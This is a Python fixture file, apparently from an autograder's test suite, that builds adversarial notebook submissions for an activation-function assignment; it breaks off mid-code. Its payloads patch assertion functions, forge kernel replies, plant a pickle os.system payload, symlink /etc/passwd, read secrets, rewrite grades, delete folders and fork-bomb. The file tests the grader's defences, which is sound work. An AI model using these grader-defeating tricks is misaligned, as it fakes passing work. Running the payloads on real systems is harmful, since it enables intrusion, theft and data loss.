"""Adversarial submissions of assignment 01, generated from its released notebook.

Every submission starts from ``release/01_activation_basics`` of the course directory under test
(so the fixtures follow the course as it changes) and the instructor's right answers (from
``source/``); each one then cheats, hangs, crashes, snoops or is broken in the ways the grading
must survive. Each student bundles a few cases that target *different* questions, so one
autograding run grades all of them, and every case is checked on its own question.

``CASES`` is the table of the closing note: case, the student carrying it, the questions that
must score 0, and the words the student's flag lines must contain.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from actkit.instructor.demo import CLEO_MISTAKES
from actkit.instructor.notebooks import make_submission, notebook_of, solution_cells

ASSIGNMENT = "01_activation_basics"
TESTS = ["test_linear", "test_sigmoid", "test_tanh", "test_relu", "test_leaky_relu", "test_elu", "test_softmax",
         "test_maxout", "test_input_forms"]
CALLS_EVERY_FUNCTION = "test_input_forms"  # a broken function may cost it too (issue 25: input forms, own points)

# Plausible wrong answers. The sigmoid one is a step function that passes every test whose
# comparisons are switched off (the cheats below try exactly that).
WRONG = {
    "linear": "def linear(x):\n    return np.asarray(x)\n",
    "sigmoid": ("def sigmoid(x):\n    x = np.asarray(x, dtype=float)\n"
                "    return np.asarray(np.where(x > 0, 1.0, np.where(x < 0, 0.0, 0.5)), dtype=float)\n"),
    "tanh": "def tanh(x):\n    return np.asarray(np.sign(np.asarray(x, dtype=float)), dtype=float)\n",
    "relu": "def relu(x):\n    return np.abs(np.asarray(x, dtype=float))\n",
    "leaky_relu": ("def leaky_relu(x, alpha=0.01):\n    x = np.asarray(x, dtype=float)\n"
                   "    return np.where(x >= 0, x, 0.01 * x)\n"),
    "elu": "def elu(x, alpha=1.0):\n    x = np.asarray(x, dtype=float)\n    return np.where(x > 0, x, np.exp(x) - 1)\n",
    "softmax": CLEO_MISTAKES["softmax"],
    "maxout": "def maxout(z, axis=-1):\n    return np.asarray(np.max(np.asarray(z, dtype=float)), dtype=float)\n",
}


# the oldest and the newest minor version of nbformat 4 (4.4, the release's own, is every other submission's);
# each carries broken metadata too
NBFORMAT_MINORS = (0, 5)


@dataclass
class Case:
    case: str  # what the submission does (a row of the table)
    student: str
    zero: list[str] = field(default_factory=list)  # test cells that must score 0
    flags: list[str] = field(default_factory=list)  # words the student's flag lines must contain
    how: str = ""  # how it is stopped or detected


CASES = [
    # --- patching the checkers (they live in the tester: the student's process has only copies)
    Case("np.testing.assert_allclose / assert_array_equal replaced (definition time)", "patch_checkers",
         ["test_sigmoid"], ["replaces np.testing.assert_allclose"],
         "the tests run in the tester, which has its own NumPy; flagged by the scan"),
    Case("np.allclose, np.isclose, math.isclose (and NumPy's internal isclose) replaced", "patch_checkers",
         ["test_tanh"], ["replaces np.allclose", "replaces math.isclose"], "tester; scan"),
    Case("builtins abs, all, len, isinstance replaced", "patch_checkers", ["test_relu"],
         ["replaces builtins.isinstance", "replaces builtins.abs"], "tester; scan"),
    Case("checkers patched while the test runs (inside the answer)", "patch_checkers", ["test_leaky_relu"],
         ["replaces np.testing.assert_allclose"], "the patch runs in the student's process only; scan"),
    Case("instructor helpers rebound (check_output, call_strict)", "patch_checkers", ["test_softmax"],
         ["rebinds 'check_output'"], "the tester's names come from the instructor's read-only cells; scan"),
    Case("answer returns an ndarray subclass whose == is always true", "fake_objects", ["test_linear"],
         ["defines __eq__", "subclasses np.ndarray"],
         "only plain arrays cross as data; the subclass stays a handle and fails the type check; scan"),
    Case("answer returns an object pretending to be an array (__class__, __array__)", "fake_objects",
         ["test_elu"], ["defines __class__", "defines __array__"], "a handle, not an ndarray; scan"),
    Case("answer returns an object whose == is always true", "fake_objects", ["test_maxout"],
         ["defines __eq__"], "a handle compares by identity in the tester; scan"),
    # --- hiding failures (every hook lives in the student's kernel; the tests do not)
    Case("get_ipython().showtraceback overridden", "hide_failures", ["test_sigmoid"],
         ["replaces get_ipython().showtraceback"], "test outputs come from the tester; scan"),
    Case("post_run_cell hook that erases the error of every later cell", "hide_failures", ["test_tanh"],
         ["uses get_ipython().events"], "test cells never run in the kernel; scan"),
    Case("pre_run_cell hook that re-patches the checkers before every cell", "hide_failures", ["test_relu"],
         ["uses get_ipython().events"], "tester; scan"),
    Case("input transformer that blanks later test cells", "hide_failures", ["test_leaky_relu"],
         ["uses get_ipython().input_transformers_cleanup"], "tester; scan"),
    Case("sys.excepthook replaced", "hide_failures", ["test_elu"], ["uses sys.excepthook"], "tester; scan"),
    Case("sys.settrace tracer that jumps over the test's checks", "hide_failures", ["test_softmax"],
         ["uses sys.settrace"], "the tracer is in the student's process; scan"),
    Case("a score-like result published before the test fails (nbgrader's partial credit)", "hide_failures",
         ["test_linear"], ["uses get_ipython().displayhook"],
         "output the student's process sends during a call is not the test's output; scan"),
    Case("sys.stderr redirected to hide warnings", "hide_failures", ["test_maxout"],
         ["replaces sys.stderr"], "warnings are re-issued in the tester; scan"),
    # --- the kinds of issue 10: forging, transient patches, code objects, the bridge, leaks, links
    Case("kernel messages forged: every execute_reply 'ok', every error message dropped", "forge_messages",
         ["test_sigmoid", "test_tanh"], ["uses get_ipython().kernel"],
         "scores come from the tester's outputs, not from the student's messages; scan"),
    Case("checkers patched only while a cell runs (pre_run_cell patches, post_run_cell undoes)", "transient_patch",
         ["test_relu"], ["uses get_ipython().events"], "test cells never run in the kernel; scan"),
    Case("__code__ of checkers and of the instructor's helpers replaced", "code_objects",
         ["test_leaky_relu", "test_elu"], ["replaces or reads code objects"],
         "the tester's functions are not the student's copies; scan"),
    Case("the bridge replaced: forged answers (object arrays with a pickle, deep nesting, wrong kinds)",
         "forge_bridge", TESTS, ["touches the grading code"],
         "the tester decodes data only: no unpickling, bounded depth; test 0; scan"),
    Case("hidden tests hunted in history, linecache, frames, objects and notebooks on disk", "leak_hidden", [],
         ["reads stack frames", "walks every object"],
         "hidden tests never enter the student's process; the sanitised notebook is not in its folder; scan"),
    Case("symlinks and a FIFO left in the kernel's folder, pointing at other students and the gradebook",
         "symlinker", [], ["operating-system access"],
         "the kernel works in a throwaway folder; only the notebook comes back; scan"),
    Case("symlinks handed in with the submission (to the instructor's source and to another student)",
         "linked_files", TESTS, ["holds links"],
         "not copied, not graded: recorded as 0 and flagged (nbgrader's copy would follow them)"),
    # --- escaping
    Case("sys.exit() in an answer", "escape", ["test_sigmoid"], [], "SystemExit comes back as the test's error"),
    Case("os._exit(0) in an answer (kernel dies during the test)", "escape", ["test_tanh"],
         ["test_tanh: the kernel died while running this cell"],
         "kernel restarted, earlier cells replayed, grading goes on; flagged"),
    Case("raise SystemExit in an answer cell", "escape", ["test_relu"], [],
         "error in the cell; the function is missing"),
    Case("raise KeyboardInterrupt in an answer", "escape", ["test_leaky_relu"], [], "error in the test"),
    Case("segfault through ctypes in an answer cell", "escape", ["test_elu"],
         ["answer cell elu: the kernel died while running this cell"],
         "kernel restarted, replayed without that cell; flagged"),
    # --- exhausting
    Case("infinite loop in an answer", "exhaust_a", ["test_maxout"], ["test_maxout: cut off after"],
         "the tester's time limit, then the kernel is interrupted; flagged"),
    Case("allocating far more memory than allowed", "exhaust_a", ["test_elu"], [],
         "RLIMIT_DATA: MemoryError instead of an out-of-memory machine"),
    Case("fork bomb (bounded to 2000 processes)", "exhaust_a", [], ["os.fork"],
         "RLIMIT_NPROC; processes die with the sandbox; flagged by scan"),
    Case("busy loop that ignores the interrupt (SIGINT ignored)", "exhaust_b", ["test_maxout"],
         ["test_maxout: the student's code ignored the interrupt"],
         "time limit, kernel killed and restarted, replay; flagged"),
    Case("10-million-line print in an answer", "exhaust_c", ["test_maxout"], ["test_maxout: cut off after"],
         "what the student prints during a test is not the test's output; time limit; flagged"),
    # --- snooping and tampering
    Case("reading source/ (solutions, hidden tests) and the gradebook", "snoop", ["test_sigmoid"],
         ["a path into the course directory", "mentions the gradebook"],
         "not mounted in the sandbox; flagged by scan"),
    Case("writing the gradebook and other students' folders, deleting files, network", "tamper", [],
         ["sqlite3", "socket", "shutil"], "not mounted / read-only / no network in the sandbox; flagged by scan"),
    # --- structure
    Case("locked test cell edited", "struct_locked", ["test_sigmoid"], ["test cell test_sigmoid was edited"],
         "nbgrader restores it from the gradebook"),
    Case("locked test cell deleted", "struct_locked", ["test_tanh"], ["test cell test_tanh was deleted"],
         "OverwriteCells.add_missing_cells puts it back"),
    Case("test cell type changed to markdown", "struct_locked", ["test_relu"],
         ["test cell test_relu was changed from code to markdown"], "nbgrader changes the type back"),
    Case("nbgrader metadata removed from a test cell", "struct_locked", ["test_leaky_relu"],
         ["test cell test_leaky_relu was deleted"], "the instructor's cell is put back"),
    Case("answer cell deleted", "struct_locked", ["test_maxout"], ["answer cell maxout was deleted"],
         "that question scores 0"),
    Case("read-only helper cell moved behind the tests, lax helpers defined instead", "struct_order",
         ["test_elu"], ["test_helpers moved", "redefines 'check_output'"],
         "RestoreStructure restores the released order; the tester has the instructor's helpers; flagged"),
    Case("duplicated grade ids (a test cell copied and emptied)", "struct_order", ["test_softmax"],
         ["grade id 'test_softmax' appears 2 times", "grade id 'maxout' appears 2 times"],
         "nbgrader keeps the last copy of an id; locked cells get the instructor's source; flagged"),
    Case("invalid-JSON notebook", "invalid_json", TESTS, ["not valid JSON"], "preflight: recorded as 0"),
    Case("empty notebook file", "empty_file", TESTS, ["empty"], "preflight: recorded as 0"),
    Case("notebook nested 100,000 levels deep", "deep_json", TESTS, ["cannot be read"],
         "preflight: recorded as 0, every other student graded"),
    Case("notebook with 60 MB of metadata", "huge_json", TESTS, ["too large"], "preflight: recorded as 0"),
    Case("notebook in an old format (v3)", "old_format", [], ["old notebook format v3"],
         "converted and graded normally"),
    Case("wrongly named notebook", "misnamed", [], ["found 01_activation_basics (1).ipynb instead",
                                                     "graded as 01_activation_basics.ipynb"],
         "matched unambiguously: graded from a copy; flagged"),
    Case("missing notebook", "missing", TESTS, ["missing from the submission"], "preflight: recorded as 0"),
    Case("extra notebook (and a code file)", "extra_notebook", [], ["extra notebook", "code file handed in"],
         "the extra notebook is not executed; flagged"),
    Case("a student folder with spaces, quotes and non-ASCII letters", "o'neil ünï", [], [],
         "graded like anyone else"),
    # --- issue 24: message bombs, the tests' arguments echoed, broken metadata
    Case("a 100 MB display_data from an answer cell (33 million empty dicts, sent already serialised)",
         "bomb_kernel", ["test_sigmoid"], ["answer cell sigmoid: the kernel sent a message of 100.0 MB"],
         "read part by part before parsing (limits.py): dropped unread, the kernel restarted; flagged"),
    Case("the bridge answers with 180 MB of buffers (three 60 MB parts)", "bomb_bridge", ["test_tanh"],
         ["test_tanh: the student's answer was refused: the kernel sent a message of 180.0 MB"],
         "the tester reads its comm part by part within bounds; flagged"),
    Case("the bridge answers with 45 MB of JSON (15 million empty dicts)", "bomb_bridge", ["test_relu"],
         ["test_relu: the student's answer was refused: the kernel sent a message of"], "the same; flagged"),
    Case("a 1 KB .keras answer whose config names a 20000 x 20000 Dense layer", "bomb_bridge", ["test_leaky_relu"],
         ["test_leaky_relu: the student's answer was refused: the Keras model has a layer of width 20000"],
         "codec.check_keras_archive: the config, sizes and weights' shapes checked before Keras is imported"),
    Case("the tests' arguments recorded and echoed: printed and displayed during the call, by a thread, in a "
         "later cell, as a warning and an exception message", "echo", ["test_linear"], [],
         "the tests run after every kernel cell; hidden checks' error and warning messages withheld"),
    # (broken metadata: two students, each case on its own question; notebook-level changes split between them)
    Case("a read-only cell's grade id removed", "meta_minor_0", [],
         ["metadata of read-only cell test_helpers was removed"],
         "RepairCells: a cell of the student's; the instructor's cell is put back; flagged"),
    Case("the kernelspec changed to a kernel the grader does not have", "meta_minor_0", [],
         ["names another kernel ('no-such-kernel'"], "nbgrader's OverwriteKernelspec: the course's kernel; flagged"),
    Case("nbformat 4.0 (no cell ids)", "meta_minor_0", [], [], "read and graded as nbformat 4"),
    Case("an answer cell copied with its grade id, the wrong copy last", "meta_minor_5", ["test_tanh"],
         ["grade id 'tanh' appears 2 times"], "nbgrader grades the last copy; flagged"),
    Case("a test cell turned into an answer cell (its checks replaced)", "meta_minor_5", [],
         ["test cell test_relu was edited", "test_relu was unlocked"],
         "RepairCells puts the released metadata back, OverwriteCells the instructor's source; flagged"),
    Case("nbformat 4.5 (cell ids)", "meta_minor_5", [], [], "read and graded as nbformat 4"),
    Case("a file that is not JSON at all (binary)", "not_json", TESTS, ["not text"], "preflight: recorded as 0"),
]

# What the hidden-test hunter prints is kept in a cell after every test, so it would reach the feedback.
LEAK_MARKER = "LEAKED "
# A file the forged bridge answers would create if the tester ever unpickled or imported them.
PWNED = "/tmp/actkit-test-pwned"

CONTROLS = ["ada", "ben", "cleo"]  # right, blank, two wrong: must grade exactly as without the others
# The kinds of attack that once got through (issue 10): graded by both nbgrader autograde and actkit-grade.
BOTH_PATHS = ["bomb_kernel", "bomb_bridge", "echo", "meta_minor_0", "meta_minor_5", "not_json", "invalid_json",
              "forge_messages", "transient_patch", "code_objects", "forge_bridge", "leak_hidden", "symlinker",
              "linked_files", "deep_json", "huge_json", "o'neil ünï"]


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _write(root: Path, student: str, nb, name: str = f"{ASSIGNMENT}.ipynb") -> Path:
    path = root / "submitted" / student / ASSIGNMENT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def _submission(released: Path, answers: dict[str, str]):
    nb = nbformat.read(released, as_version=4)
    for gid, source in answers.items():
        _cell(nb, gid).source = source
    return nb


def build(root: Path, *, listener_port: int, canary: Path) -> list[str]:
    """Write every adversarial (and control) submission into ``root/submitted``; return the students.

    ``listener_port``: a TCP port on the grader's loopback that nobody may reach; ``canary``: a
    folder outside the course that nobody may change.
    """
    released = notebook_of(ASSIGNMENT, "release", root)
    right = solution_cells(nbformat.read(notebook_of(ASSIGNMENT, "source", root), as_version=4))
    course = str(root)

    # controls: the demo's three students
    make_submission(released, root / "submitted" / "ada" / ASSIGNMENT / released.name, answers=right)
    make_submission(released, root / "submitted" / "ben" / ASSIGNMENT / released.name)
    make_submission(released, root / "submitted" / "cleo" / ASSIGNMENT / released.name,
                    answers={**right, **CLEO_MISTAKES})

    # --- patching the checkers
    _write(root, "patch_checkers", _submission(released, {
        **right,
        "sigmoid": ("np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                    "np.testing.assert_array_equal = lambda *args, **kwargs: None\n\n" + WRONG["sigmoid"]),
        "tanh": ("import numpy._core.numeric as numeric\n"
                 "np.allclose = lambda *args, **kwargs: True\nnp.isclose = lambda *args, **kwargs: True\n"
                 "numeric.isclose = lambda *args, **kwargs: np.True_\nmath.isclose = lambda *args, **kwargs: True\n\n"
                 + WRONG["tanh"]),
        "relu": ("import builtins\n_real = (builtins.abs, builtins.all, builtins.len, builtins.isinstance)\n"
                 "builtins.isinstance = lambda obj, kind: True if kind is np.ndarray else _real[3](obj, kind)\n"
                 "builtins.all = lambda items: True if type(items) is np.ndarray else _real[1](items)\n"
                 "builtins.abs = lambda value: 0 * value if type(value) is np.ndarray else _real[0](value)\n"
                 "builtins.len = lambda obj: 3 if type(obj) is np.ndarray else _real[2](obj)\n\n" + WRONG["relu"]),
        "leaky_relu": ("def leaky_relu(x, alpha=0.01):\n"
                       "    np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                       "    x = np.asarray(x, dtype=float)\n    return np.where(x >= 0, x, 0.01 * x)\n"),
        "softmax": ("check_output = lambda *args, **kwargs: None\n"
                    "call_strict = lambda f, *args, **kwargs: f(*args, **kwargs)\n\n" + WRONG["softmax"]),
    }))

    # --- fake objects
    _write(root, "fake_objects", _submission(released, {
        **right,
        "linear": ("class AlwaysEqual(np.ndarray):\n    def __eq__(self, other):\n        return True\n\n"
                   "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):\n        return np.True_\n\n\n"
                   "def linear(x):\n    return np.zeros(np.shape(x)).view(AlwaysEqual)\n"),
        "elu": ("class PretendArray:\n    __class__ = property(lambda self: np.ndarray)\n"
                "    dtype = np.dtype(float)\n\n    def __init__(self, shape):\n        self.shape = shape\n\n"
                "    def __array__(self, dtype=None, copy=None):\n        return np.zeros(self.shape)\n\n"
                "    def __eq__(self, other):\n        return True\n\n\n"
                "def elu(x, alpha=1.0):\n    return PretendArray(np.shape(x))\n"),
        "maxout": ("class Yes:\n    def __eq__(self, other):\n        return True\n\n\n"
                   "def maxout(z, axis=-1):\n    return Yes()\n"),
    }))

    # --- hiding failures (each hook would hide the failures of every later test)
    _write(root, "hide_failures", _submission(released, {
        **right,
        "linear": "def linear(x):\n    get_ipython().displayhook(2)  # 'full marks' as partial credit\n"
                  "    return np.asarray(x)\n",
        "sigmoid": ("get_ipython().showtraceback = lambda *args, **kwargs: None\n\n"
                    "def sigmoid(x):\n    x = np.asarray(x, dtype=float)\n"
                    "    return np.asarray(1 / (1 + np.exp(-x)))\n"),
        "tanh": ("def _forget_errors(result):\n    result.error_in_exec = None\n"
                 "    result.error_before_exec = None\n\n\n"
                 "get_ipython().events.register('post_run_cell', _forget_errors)\n\n" + WRONG["tanh"]),
        "relu": ("def _repatch(info):\n    np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                 "    np.testing.assert_array_equal = lambda *args, **kwargs: None\n\n\n"
                 "get_ipython().events.register('pre_run_cell', _repatch)\n\n" + WRONG["relu"]),
        "leaky_relu": ("def _blank(lines):\n    text = ''.join(lines)\n"
                       "    return ['pass\\n'] if 'leaky_relu(' in text and 'def ' not in text else lines\n\n\n"
                       "get_ipython().input_transformers_cleanup.append(_blank)\n\n" + WRONG["leaky_relu"]),
        "elu": "import sys\n\nsys.excepthook = lambda *args: None\n\n" + WRONG["elu"],
        "softmax": ("import linecache\nimport sys\n\n\ndef _skip_checks(frame, event, arg):\n"
                    "    if event == 'line':\n"
                    "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
                    "        if 'softmax' in line and ('assert' in line or 'check_' in line):\n"
                    "            try:\n                frame.f_lineno = frame.f_lineno + 1\n"
                    "            except ValueError:\n                pass\n    return _skip_checks\n\n\n"
                    "def _tracer(frame, event, arg):\n"
                    "    return _skip_checks if 'ipykernel' in frame.f_code.co_filename else None\n\n\n"
                    "sys.settrace(_tracer)\n\n" + WRONG["softmax"]),
        "maxout": "import sys\n\nsys.stderr = sys.stdout\n\n" + WRONG["maxout"],
    }))

    # --- forged kernel messages: every reply says "ok", every error message is dropped
    forge = (
        "_kernel = get_ipython().kernel\n_send = _kernel.session.send\n\n\n"
        "def _forge(stream, msg_or_type, content=None, parent=None, *args, **kwargs):\n"
        "    kind = msg_or_type.get('header', {}).get('msg_type') if isinstance(msg_or_type, dict) else msg_or_type\n"
        "    if kind == 'error':\n        return None\n"
        "    if kind == 'execute_reply':\n"
        "        if isinstance(msg_or_type, dict):\n            msg_or_type['content']['status'] = 'ok'\n"
        "        elif isinstance(content, dict):\n"
        "            content = {'status': 'ok', 'execution_count': content.get('execution_count', 1),\n"
        "                       'user_expressions': {}, 'payload': []}\n"
        "    return _send(stream, msg_or_type, content, parent, *args, **kwargs)\n\n\n"
        "_kernel.session.send = _forge\n\n"
    )
    _write(root, "forge_messages", _submission(released, {**right, "sigmoid": forge + WRONG["sigmoid"],
                                                           "tanh": WRONG["tanh"]}))

    # --- patches active only while a cell runs, undone before anyone could look
    transient = (
        "_saved = (np.testing.assert_allclose, np.testing.assert_array_equal, np.allclose)\n\n\n"
        "def _on(*args):\n    np.testing.assert_allclose = lambda *a, **k: None\n"
        "    np.testing.assert_array_equal = lambda *a, **k: None\n    np.allclose = lambda *a, **k: True\n\n\n"
        "def _off(*args):\n"
        "    np.testing.assert_allclose, np.testing.assert_array_equal, np.allclose = _saved\n\n\n"
        "get_ipython().events.register('pre_run_cell', _on)\nget_ipython().events.register('post_run_cell', _off)\n\n"
    )
    _write(root, "transient_patch", _submission(released, {**right, "relu": transient + WRONG["relu"]}))

    # --- code objects of the checkers and of the instructor's helpers replaced, dunder entries too
    code = (
        "def _noop(*args, **kwargs):\n    return None\n\n\n"
        "for _f in (np.testing.assert_allclose, np.testing.assert_array_equal, check_output, check_elementwise):\n"
        "    try:\n        _f.__code__ = _noop.__code__\n    except (TypeError, ValueError, AttributeError):\n"
        "        pass\n"
        "call_strict.__code__ = (lambda f, *args, **kwargs: f(*args, **kwargs)).__code__\n"
        "np.testing.__dict__['assert_allclose'] = _noop\nmath.__dict__['isclose'] = lambda *a, **k: True\n\n"
    )
    _write(root, "code_objects", _submission(released, {**right, "leaky_relu": code + WRONG["leaky_relu"],
                                                         "elu": WRONG["elu"]}))

    # --- the bridge replaced: answers that would run code if anything unpickled or trusted them
    forged = (
        "import io\nimport os\nimport sys\nimport zipfile\n\nimport actkit.grading.bridge as _bridge\n\n\n"
        "class _Plant:\n    def __reduce__(self):\n"
        f"        return (os.system, ('touch {PWNED}',))\n\n\n"
        "_evil = io.BytesIO()\nnp.save(_evil, np.array([_Plant()], dtype=object), allow_pickle=True)\n"
        "_zip = io.BytesIO()\nwith zipfile.ZipFile(_zip, 'w') as z:\n"
        "    z.writestr('config.json', '{\"module\": \"os\", \"class_name\": \"system\", "
        f"\"config\": \"touch {PWNED}\"}}')\n"
        "    z.writestr('metadata.json', '{\"keras_version\": \"3.15.1\"}')\n"
        "sys.setrecursionlimit(200000)\n_deep = {'t': 'none'}\nfor _ in range(20000):\n"
        "    _deep = {'t': 'list', 'v': [_deep]}\n"
        "_answers = [({'ok': True, 'value': {'t': 'nd', 'b': 0}}, [_evil.getvalue()]),\n"
        "            ({'ok': True, 'value': {'t': 'keras', 'b': 0}}, [_zip.getvalue()]),\n"
        "            ({'ok': True, 'value': _deep}, []),\n"
        "            ({'ok': True, 'value': {'t': 'bool', 'v': True}}, []),\n"
        "            ({'ok': True, 'value': {'t': 'nd', 'b': 7}}, [])]\n"
        "_count = [0]\n\n\n"
        "def _serve(request):\n"
        "    if request['op'] == 'lookup':\n"
        "        return {'ok': True, 'value': {'t': 'callable', 'h': 1, 'type': 'function', 'name': 'f'}}, []\n"
        "    _count[0] += 1\n    return _answers[_count[0] % len(_answers)]\n\n\n"
        "_bridge.serve = _serve\n\n"
    )
    _write(root, "forge_bridge", _submission(released, {**right, "linear": forged + right["linear"]}))

    # --- hunting the hidden tests from inside the kernel; what it finds is printed after every test
    hunt = (
        "import gc\nimport glob\nimport json\nimport linecache\nimport sys\n\n_SEEN = []\n\n\n"
        "def _collect(text):\n    if isinstance(text, str) and ('HIDDEN' in text or 'assert' in text):\n"
        "        _SEEN.append(text[:3000])\n\n\n"
        "def _frames():\n    frame = sys._getframe(1)\n    while frame is not None:\n"
        "        for const in frame.f_code.co_consts:\n            _collect(const)\n"
        "        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):\n"
        "            _collect(value)\n        frame = frame.f_back\n\n\n"
        + right["maxout"].replace("def maxout(", "def _maxout(", 1) + "\n\n"
        "def maxout(*args, **kwargs):\n    _frames()\n    return _maxout(*args, **kwargs)\n"
    )
    final = (
        "for _text in list(get_ipython().user_ns.get('In', [])) + list(get_ipython().user_ns.get('_ih', [])):\n"
        "    _collect(_text)\n"
        "for _entry in list(linecache.cache.values()):\n    if isinstance(_entry, tuple) and len(_entry) > 2:\n"
        "        _collect(''.join(_entry[2]))\n"
        "for _obj in gc.get_objects():\n    _collect(_obj)\n"
        "for _path in glob.glob('**/*.ipynb', recursive=True) + glob.glob('../**/*.ipynb', recursive=True) \\\n"
        "        + glob.glob('/tmp/**/*.ipynb', recursive=True):\n"
        "    try:\n        _collect(open(_path).read())\n    except OSError:\n        pass\n"
        f"print({LEAK_MARKER!r} + json.dumps(sorted(set(_SEEN)))[:200000])\n"
    )
    nb = _submission(released, {**right, "maxout": hunt})
    nb.cells.append(nbformat.v4.new_code_cell(final))
    _write(root, "leak_hidden", nb)

    # --- links: left by the kernel in its folder, and handed in inside the submission
    links = (
        "import os\n\n"
        f"_ada = {course!r} + '/submitted/ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb'\n"
        f"for _name, _target in [('{ASSIGNMENT}.ipynb', _ada), ('gradebook.db', {course!r} + '/gradebook.db'),\n"
        f"                       ('feedback', {course!r} + '/feedback'),\n"
        f"                       ('passwd', '/etc/passwd'), ('canary', {str(canary / 'canary.txt')!r})]:\n"
        "    try:\n        os.symlink(_target, _name)\n    except OSError:\n        pass\n"
        "try:\n    os.mkfifo('pipe')\nexcept OSError:\n    pass\n\n"
    )
    _write(root, "symlinker", _submission(released, {**right, "linear": links + right["linear"]}))
    path = _write(root, "linked_files", _submission(released, right))
    (path.parent / "data.csv").symlink_to(root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    (path.parent / "notes.txt").symlink_to(root / "submitted" / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")

    # --- pathological files
    text = (root / "submitted" / "ada" / ASSIGNMENT / released.name).read_text()
    path = root / "submitted" / "deep_json" / ASSIGNMENT / released.name
    path.parent.mkdir(parents=True)
    path.write_text(text.replace('"metadata": {', '"metadata": {"x": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1))
    nb = _submission(released, right)
    nb.metadata["padding"] = "x" * 60_000_000
    _write(root, "huge_json", nb)
    _write(root, "o'neil ünï", _submission(released, right))

    # --- escaping
    _write(root, "escape", _submission(released, {
        **right,
        "sigmoid": "import sys\n\n\ndef sigmoid(x):\n    sys.exit('bye')\n",
        "tanh": "import os\n\n\ndef tanh(x):\n    os._exit(0)\n",
        "relu": "raise SystemExit('not today')\n\n" + right["relu"],
        "leaky_relu": "def leaky_relu(x, alpha=0.01):\n    raise KeyboardInterrupt\n",
        "elu": "import ctypes\n\nctypes.string_at(0)  # reads address 0: segmentation fault\n\n" + right["elu"],
    }))

    # --- exhausting the machine
    _write(root, "exhaust_a", _submission(released, {
        **right,
        "relu": ("import os\nimport signal\nimport time\n\nchildren = []\ntry:\n    for _ in range(2000):\n"
                 "        pid = os.fork()\n        if pid == 0:\n            time.sleep(600)\n            os._exit(0)\n"
                 "        children.append(pid)\n"
                 "except OSError as exc:\n    print(f'FORKS {len(children)} stopped by {type(exc).__name__}')\n"
                 "else:\n    print(f'FORKS {len(children)} not stopped')\n"
                 "for pid in children[5:]:  # five stay alive: the sandbox must end them\n"
                 "    os.kill(pid, signal.SIGKILL)\n    os.waitpid(pid, 0)\n\n" + right["relu"]),
        "elu": ("blocks = []\ntry:\n    while True:\n        blocks.append(np.ones(2**24))  # 128 MiB each, touched\n"
                "except MemoryError:\n    print(f'MEMORY stopped after {len(blocks) * 128} MiB')\nblocks = None\n\n\n"
                "def elu(x, alpha=1.0):\n    hog = np.ones(int(1e11))\n    return hog[: np.size(x)]\n"),
        "maxout": "def maxout(z, axis=-1):\n    while True:\n        pass\n",
    }))
    # (the hangs are in maxout, which no later cell calls: each costs one timeout)
    _write(root, "exhaust_b", _submission(released, {
        **right,
        "maxout": ("import signal\n\n\ndef maxout(z, axis=-1):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                   "    while True:\n        pass\n"),
    }))
    _write(root, "exhaust_c", _submission(released, {
        **right,
        "maxout": ("def maxout(z, axis=-1):\n    for i in range(10_000_000):\n        print(i)\n"
                   "    return np.asarray(np.max(np.asarray(z, dtype=float), axis=axis), dtype=float)\n"),
    }))

    # --- snooping and tampering
    snoop = (
        "import json\nimport os\nimport sqlite3\n\nSEEN = {}\n"
        f"for path in [{course!r} + '/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb',\n"
        f"             '../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb']:\n"
        "    try:\n        with open(path) as fh:\n            cells = json.load(fh)['cells']\n"
        "        SEEN[path] = 'READ'\n        for cell in cells:\n"
        "            if cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'sigmoid':\n"
        "                exec(''.join(cell['source']))\n"
        "    except Exception as exc:\n        SEEN[path] = type(exc).__name__\n"
        "try:\n"
        f"    db = sqlite3.connect('file:' + {course!r} + '/gradebook.db?mode=ro', uri=True)\n"
        "    SEEN['gradebook'] = str(db.execute('select count(*) from grade').fetchone())\n"
        "except Exception as exc:\n    SEEN['gradebook'] = type(exc).__name__\n"
        "try:\n"
        f"    SEEN['listing'] = sorted(os.listdir({course!r}))\n"
        "except Exception as exc:\n    SEEN['listing'] = type(exc).__name__\n"
        "SEEN['secret'] = os.environ.get('ACTKIT_TEST_SECRET', 'absent')\n"
        "print('SNOOP ' + json.dumps(SEEN))\n"
    )
    nb = nbformat.read(released, as_version=4)
    for gid, source in right.items():
        if gid != "sigmoid":
            _cell(nb, gid).source = source
    _cell(nb, "sigmoid").source += "\n\n\n" + snoop
    _write(root, "snoop", nb)

    tamper = (
        "import json\nimport os\nimport shutil\nimport socket\nimport sqlite3\n\n"
        f"ROOT = {course!r}\nTRIED = {{}}\n\n\ndef attempt(name, action):\n    try:\n        action()\n"
        "        TRIED[name] = 'DONE'\n    except Exception as exc:\n        TRIED[name] = type(exc).__name__\n\n\n"
        "def write_gradebook():\n    db = sqlite3.connect(ROOT + '/gradebook.db')\n"
        "    db.execute('update grade set auto_score = 99')\n    db.commit()\n\n\n"
        "def write(path):\n    with open(path, 'w') as fh:\n        fh.write('{}')\n\n\n"
        "attempt('write_gradebook', write_gradebook)\n"
        f"attempt('write_other_submission', lambda: write(ROOT + '/submitted/ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb'))\n"
        "attempt('write_other_autograded', lambda: write(ROOT + '/autograded/ada/x.ipynb'))\n"
        f"attempt('write_cache', lambda: write(ROOT + '/build/grading/{ASSIGNMENT}/cache/planted.ipynb'))\n"
        "attempt('delete_submitted', lambda: shutil.rmtree(ROOT + '/submitted'))\n"
